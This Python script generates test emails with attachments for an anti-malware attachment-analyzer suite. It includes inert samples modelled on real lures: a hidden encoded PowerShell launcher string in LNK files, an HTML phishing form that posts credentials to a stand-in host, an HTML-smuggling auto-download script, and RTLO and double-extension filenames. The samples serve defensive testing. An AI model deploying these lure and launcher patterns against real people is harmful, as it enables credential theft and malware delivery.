#!/usr/bin/python3
# mkattach.py - build test mails with attachments for the attachments analyzer tests (and libclamav's)
#
#   $PYTHON mkattach.py KIND OUT.eml     write one message (KIND: see SAMPLES)
#   $PYTHON mkattach.py --list           list the kinds
#   $PYTHON mkattach.py --mutate KIND N DIR  N messages whose attachment is
#                                        KIND's with random damage (bytes
#                                        flipped, truncated, zip header
#                                        fields overwritten); seeded, so
#                                        every run makes the same files
#
# Every sample is generated here (zipfile, a small OLE2 writer, hand-built
# LNK/ISO headers) so no malware-like file is checked in. EICAR is the
# standard anti-virus test string. Encrypted zips need the zip(1) tool
# (zipfile cannot encrypt); that kind exits 77 when zip is missing.
import email.encoders
import email.mime.base
import email.mime.multipart
import email.mime.text
import io
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile

EICAR = (b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def zip_encrypted(members, password):
    if shutil.which('zip') is None:
        sys.exit(77)
    d = tempfile.mkdtemp()
    try:
        for name, data in members:
            with open(os.path.join(d, name), 'wb') as f:
                f.write(data)
        subprocess.run(['zip', '-q', '-P', password, 'out.zip'] + [n for n, _ in members],
                       cwd=d, check=True)
        with open(os.path.join(d, 'out.zip'), 'rb') as f:
            return f.read()
    finally:
        shutil.rmtree(d)


def ole2(streams):
    """A minimal valid OLE2 compound file: root storage with the given
    (name, data) streams, each padded to 4096 bytes so it lives in regular
    sectors (no mini stream)."""
    ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    data_sectors = []
    fat = [FATSECT, ENDOFCHAIN]        # sector 0 FAT, sector 1 directory
    starts = []
    for name, data in streams:
        data = data.ljust(4096, b'\0')
        n = len(data) // 512
        start = len(fat)
        starts.append((start, len(data)))
        for i in range(n):
            fat.append(start + i + 1 if i < n - 1 else ENDOFCHAIN)
        data_sectors.append(data)
    fat += [FREESECT] * (128 - len(fat))

    def entry(name, typ, child, right, start, size):
        n = (name + '\0').encode('utf-16-le') if name else b''
        e = n.ljust(64, b'\0') + struct.pack('<HBB', len(n), typ, 1 if typ else 0)
        e += struct.pack('<III', NOSTREAM, right, child) + b'\0' * 16 + b'\0' * 4 + b'\0' * 16
        e += struct.pack('<IQ', start, size)
        return e
    dirs = [entry('Root Entry', 5, 1 if streams else NOSTREAM, NOSTREAM, ENDOFCHAIN, 0)]
    for i, ((name, _), (start, size)) in enumerate(zip(streams, starts)):
        right = i + 2 if i + 1 < len(streams) else NOSTREAM
        dirs.append(entry(name, 2, NOSTREAM, right, start, size))
    while len(dirs) % 4:
        dirs.append(entry('', 0, NOSTREAM, NOSTREAM, 0, 0))
    assert len(dirs) == 4, 'keep to one directory sector'
    hdr = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 16
    hdr += struct.pack('<HHHHH', 0x3E, 3, 0xFFFE, 9, 6) + b'\0' * 6
    hdr += struct.pack('<IIIIIIIII', 0, 1, 1, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
    hdr += struct.pack('<I', 0) + struct.pack('<I', FREESECT) * 108
    assert len(hdr) == 512
    return hdr + struct.pack('<128I', *fat) + b''.join(dirs) + b''.join(data_sectors)


VBA_PROJECT = b'\xcc\x61\xff\xff\x00\x00\x00'          # _VBA_PROJECT stream header


def ooxml(kind, macro):
    main = {'word': 'word/document.xml', 'xl': 'xl/workbook.xml'}[kind]
    members = [('[Content_Types].xml', b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
               ('_rels/.rels', b'<?xml version="1.0"?><Relationships/>'),
               (main, b'<?xml version="1.0"?><document>Quarterly report</document>')]
    if macro:
        members.append((kind + '/vbaProject.bin', ole2([('_VBA_PROJECT', VBA_PROJECT), ('dir', b'\x01' * 64)])))
    return zip_bytes(members)


def lnk(args):
    hdr = struct.pack('<I', 0x4C) + bytes.fromhex('0114020000000000c000000000000046')
    hdr += struct.pack('<II', 0x000000A0, 0x20) + b'\0' * (76 - 28)   # HasArguments|IsUnicode
    s = args.encode('utf-16-le')
    return hdr + struct.pack('<H', len(args)) + s


def iso(files=()):
    """A small valid ISO 9660 image: PVD (sector 16), terminator (17), root
    directory (18), path tables (19, 20), then each (NAME, data) file."""
    def both16(v):
        return struct.pack('<H', v) + struct.pack('>H', v)

    def both32(v):
        return struct.pack('<I', v) + struct.pack('>I', v)

    def record(name, extent, size, is_dir):
        n = len(name)
        length = 33 + n + (1 - n % 2)
        r = bytes([length, 0]) + both32(extent) + both32(size) + bytes([126, 1, 1, 0, 0, 0, 0])
        r += bytes([2 if is_dir else 0, 0, 0]) + both16(1) + bytes([n]) + name
        return r.ljust(length, b'\0')

    root = record(b'\0', 18, 2048, True) + record(b'\1', 18, 2048, True)
    sector, data = 21, b''
    for name, content in files:
        root += record(name.encode() + b';1', sector, len(content), False)
        padded = content.ljust(-(-len(content) // 2048) * 2048, b'\0')
        data += padded
        sector += len(padded) // 2048
    pvd = b'\x01CD001\x01\x00' + b' ' * 32 + b'LUREWATCH'.ljust(32) + b'\0' * 8 + both32(sector)
    pvd += b'\0' * 32 + both16(1) + both16(1) + both16(2048) + both32(10)
    pvd += struct.pack('<I', 19) + b'\0' * 4 + struct.pack('>I', 20) + b'\0' * 4 + record(b'\0', 18, 2048, True)
    pvd = pvd.ljust(813, b' ') + (b'0' * 16 + b'\0') * 4 + b'\x01'
    table = bytes([1, 0]) + struct.pack('<I', 18) + struct.pack('<H', 1) + b'\0\0'
    table_m = bytes([1, 0]) + struct.pack('>I', 18) + struct.pack('>H', 1) + b'\0\0'
    sectors = [pvd, b'\xffCD001\x01', root, table, table_m]
    return b'\0' * (16 * 2048) + b''.join(x.ljust(2048, b'\0') for x in sectors) + data


PDF = (b'%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n'
       b'trailer<</Root 1 0 R>>\n%%EOF\n')
PNG = bytes.fromhex('89504e470d0a1a0a0000000d4948445200000001000000010806000000'
                    '1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082')
HTML_FORM = b'''<!DOCTYPE html><html><head><title>Microsoft 365</title></head><body>
<p>Sign in to view the shared invoice</p>
<form method="post" action="https://login-secure.example.net/collect.php">
<input type="email" name="u"><input type="password" name="p"><button>Sign in</button>
</form></body></html>'''
HTML_SMUGGLE = b'''<html><body><script>
var d = atob("UEsDBBQAAAAIAA==");
var b = new Blob([Uint8Array.from(d, c => c.charCodeAt(0))], {type: "application/octet-stream"});
var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "invoice.zip"; a.click();
</script></body></html>'''

BODY_PLAIN = 'Please find the document attached.\n'

SAMPLES = {
    'clean': (BODY_PLAIN, [('report.pdf', PDF, 'application/pdf'),
                           ('chart.png', PNG, 'image/png'),
                           ('report.docx', ooxml('word', False),
                            'application/vnd.openxmlformats-officedocument.wordprocessingml.document'),
                           ('data.csv', b'a,b\n1,2\n', 'text/csv')]),
    'eicar': (BODY_PLAIN, [('eicar.txt', EICAR, 'text/plain')]),
    'eicar-zip': (BODY_PLAIN, [('files.zip', zip_bytes([('eicar.txt', EICAR)]), 'application/zip')]),
    'eicar-zipzip': (BODY_PLAIN, [('outer.zip', zip_bytes([('inner.zip', zip_bytes([('eicar.txt', EICAR)]))]),
                                   'application/zip')]),
    'encrypted-zip': ('附件為發票，解壓縮密碼：Inv2026x\nPassword: Inv2026x\n',
                      [('invoice.zip', None, 'application/zip')]),
    'encrypted-eicar': ('The invoice is protected. 密碼：Inv2026x\n', [('invoice.zip', None, 'application/zip')]),
    'encrypted-zip-nopass': (BODY_PLAIN, [('invoice.zip', None, 'application/zip')]),
    'docm': (BODY_PLAIN, [('report.docm', ooxml('word', True), 'application/vnd.ms-word.document.macroEnabled.12')]),
    'xlsm': (BODY_PLAIN, [('budget.xlsm', ooxml('xl', True), 'application/vnd.ms-excel.sheet.macroEnabled.12')]),
    'ole2-vba': (BODY_PLAIN, [('invoice.doc', ole2([('WordDocument', b'\xec\xa5' + b'\0' * 100),
                                                     ('_VBA_PROJECT', VBA_PROJECT)]), 'application/msword')]),
    'protected-docx': ('Document attached. Password for the file: 7788aa\n',
                       [('contract.docx', ole2([('EncryptionInfo', b'\x04\x00\x04\x00\x40\x00\x00\x00'),
                                                ('EncryptedPackage', b'\x00' * 64)]),
                         'application/vnd.openxmlformats-officedocument.wordprocessingml.document')]),
    'ole2-clean': (BODY_PLAIN, [('letter.doc', ole2([('WordDocument', b'\xec\xa5' + b'\0' * 100)]),
                                 'application/msword')]),
    'lnk': (BODY_PLAIN, [('Invoice.pdf.lnk', lnk('powershell.exe -nop -w hidden -enc SQBFAFgA'),
                          'application/octet-stream')]),
    'iso': (BODY_PLAIN, [('shipment.iso', iso(), 'application/octet-stream')]),
    'iso-lnk': (BODY_PLAIN, [('Shipment_Details.iso', iso([('DOCUMENT.LNK', lnk('powershell.exe -nop -w hidden -enc SQBFAFgA')),
                                                            ('README.TXT', b'open the document')]),
                              'application/octet-stream')]),
    'iso-in-zip': (BODY_PLAIN, [('shipment.zip', zip_bytes([('shipment.img', iso())]), 'application/zip')]),
    'double-ext': (BODY_PLAIN, [('invoice.pdf.exe', b'MZ' + b'\0' * 200, 'application/pdf')]),
    'rtlo': (BODY_PLAIN, [('invoice_\u202egpj.scr', b'MZ' + b'\0' * 200, 'image/jpeg')]),
    'padding': (BODY_PLAIN, [('statement.pdf' + ' ' * 40 + '.js', b'WScript.Echo(1)', 'application/octet-stream')]),
    'script-in-zip': (BODY_PLAIN, [('order.zip', zip_bytes([('order.pdf.js', b'WScript.Echo(1)')]), 'application/zip')]),
    'html-form': (BODY_PLAIN, [('Invoice_Review.html', HTML_FORM, 'text/html')]),
    'html-redirect': (BODY_PLAIN, [('Remittance.html', b'<html><head><meta http-equiv="refresh" content="0; URL=https://docs.example.net/view"></head></html>', 'text/html'),
                                   ('Statement.svg', b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location = "https://x.example.net/" + location.hash</script></svg>', 'image/svg+xml')]),
    'html-smuggling': (BODY_PLAIN, [('document.htm', HTML_SMUGGLE, 'text/html')]),
    # script in attributes: no <script> element, the handler navigates on opening
    'html-onload': (BODY_PLAIN, [('Remittance.html', b'<html><body onload="location=\'https://docs.example.net/view\'">Loading</body></html>', 'text/html'),
                                 ('Advice.htm', b'<html><body><img src="x" onerror="window.open(\'https://docs.example.net/v\', \'_self\')"></body></html>', 'text/html')]),
    # the attachment is a window onto a web page: a full-page frame, or a frameset
    'html-frame': (BODY_PLAIN, [('Statement.html', b'<html><body style="margin:0"><iframe src="https://docs.example.net/view" style="border:0;width:100%;height:100%"></iframe></body></html>', 'text/html'),
                                ('Invoice.htm', b'<html><frameset rows="100%"><frame src="//docs.example.net/i"></frameset></html>', 'text/html')]),
    # near miss: a page whose frame shows its own local content, and a handler that does not navigate
    'html-local-frame': (BODY_PLAIN, [('Report.html', b'<html><body><iframe srcdoc="<p>Summary</p>"></iframe><iframe src="page2.html"></iframe><h1 title="onload">Q3</h1></body></html>', 'text/html')]),
    'png-as-jpg': (BODY_PLAIN, [('1733917024497blob.jpg', PNG, 'image/jpeg')]),
    'html-as-jpg': (BODY_PLAIN, [('photo.jpg', b'<html><body><form action="https://x.example.net/">', 'image/jpeg')]),
    'text-as-pdf': (BODY_PLAIN, [('statement.pdf', b'This is not a PDF at all, just text.\n', 'application/pdf')]),
    'invisible': (BODY_PLAIN, [('lnvoice\u034f\u200b-66235.html', HTML_FORM, 'text/html')]),
    'pdf-junk': (BODY_PLAIN, [('scan.pdf', b'\x00' * 300 + PDF, 'application/pdf')]),
    'htm-double': (BODY_PLAIN, [('PO45638.xls.htm', b'<html><body>Order</body></html>', 'text/html')]),
    'onenote': (BODY_PLAIN, [('notes.one', b'\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d' + b'\0' * 64, 'application/onenote')]),
    'big': (BODY_PLAIN, [('big.bin', b'\0\1\2\3' * 1024, 'application/octet-stream')]),
}


def mail(out, body, atts):
    m = email.mime.multipart.MIMEMultipart()
    m['From'] = 'sender@example.org'
    m['To'] = 'user@example.gov.tw'
    m['Subject'] = 'Documents'
    m['Message-ID'] = '<clamav-test@example.org>'
    m.attach(email.mime.text.MIMEText(body, 'plain', 'utf-8'))
    for name, data, ctype in atts:
        p = email.mime.base.MIMEBase(*ctype.split('/'))
        p.set_payload(data)
        email.encoders.encode_base64(p)
        p.add_header('Content-Disposition', 'attachment', filename=('utf-8', '', name))
        m.attach(p)
    with open(out, 'wb') as f:
        f.write(m.as_bytes())


def sample(kind):
    body, atts = SAMPLES[kind]
    if kind.startswith('encrypted-'):
        inner = [('invoice.pdf', PDF), ('readme.txt', b'see invoice ' * 50)]
        if kind == 'encrypted-eicar':
            inner = [('readme.txt', b'see invoice ' * 50), ('invoice.pdf.exe', EICAR + b'\n' + b'padding ' * 100)]  # deflated
        atts = [(atts[0][0], zip_encrypted(inner, 'Inv2026x'), atts[0][2])]
    return body, atts


def damage(data, rnd, i):
    b = bytearray(data)
    if i % 3 == 0:
        for _ in range(rnd.randint(1, 20)):
            b[rnd.randrange(len(b))] = rnd.randrange(256)
    elif i % 3 == 1:
        b = b[:rnd.randrange(len(b))]
    else:
        for sig in (b'PK\x01\x02', b'PK\x03\x04', b'PK\x05\x06'):
            j = b.find(sig)
            while j >= 0:
                k = j + rnd.randrange(4, 46)
                if k + 4 <= len(b):
                    b[k:k + 4] = bytes(rnd.randrange(256) for _ in range(4))
                j = b.find(sig, j + 1)
    return bytes(b)


def main():
    if sys.argv[1] == '--list':
        print('\n'.join(sorted(SAMPLES)))
        return
    if sys.argv[1] == '--mutate':
        import random
        kind, n, out = sys.argv[2], int(sys.argv[3]), sys.argv[4]
        body, atts = sample(kind)
        rnd = random.Random(7)
        for i in range(n):
            name, data, ctype = atts[0]
            mail(os.path.join(out, 'm%03d.eml' % i), body, [(name, damage(data, rnd, i), ctype)] + atts[1:])
        return
    body, atts = sample(sys.argv[1])
    mail(sys.argv[2], body, atts)


if __name__ == '__main__':
    main()
